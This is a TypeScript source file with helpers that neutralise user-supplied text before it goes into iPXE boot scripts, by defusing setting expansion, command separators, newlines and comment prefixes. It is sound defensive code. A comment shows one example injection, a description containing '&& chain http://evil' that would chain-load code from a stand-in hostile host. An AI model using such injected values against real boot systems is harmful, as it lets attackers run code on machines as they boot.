/**
 * iPXE scripts have no quoting: every command line has its `${settings}` expanded, and
 * a word `||` or `&&` ends a command (ipxe.org/scripting). Text that comes from users
 * (entity names, master descriptions, boot-service labels, hostnames) must therefore be
 * neutralised before it is written into a script, or a description such as
 * "${net0/mac} && chain http://evil" would run.
 */
export function ipxeText(text: string, maxLength = 120): string {
  return (
    text
      // Control characters (a newline would start a new command) become spaces.
      .replace(/[\p{Cc}\p{Zl}\p{Zp}]/gu, ' ')
      // "${" starts a setting expansion; "$ {" is shown as typed, but inert.
      .replace(/\$\{/g, '$ {')
      .split(/\s+/)
      .filter(Boolean)
      // A whole word || or && is a command separator.
      .map((word) => (word === '||' ? '| |' : word === '&&' ? '& &' : word))
      .join(' ')
      // A leading '#' or ':' would make the line a comment or a label.
      .replace(/^[#:]+/, '')
      .slice(0, maxLength)
      .trim()
  );
}

/** Values we put on a kernel command line or in a URL we build: a conservative alphabet only. */
export function ipxeToken(value: string): string {
  if (!/^[A-Za-z0-9._~:/?=&%-]+$/.test(value)) throw new Error(`"${value}" cannot be used in an iPXE script`);
  return value;
}
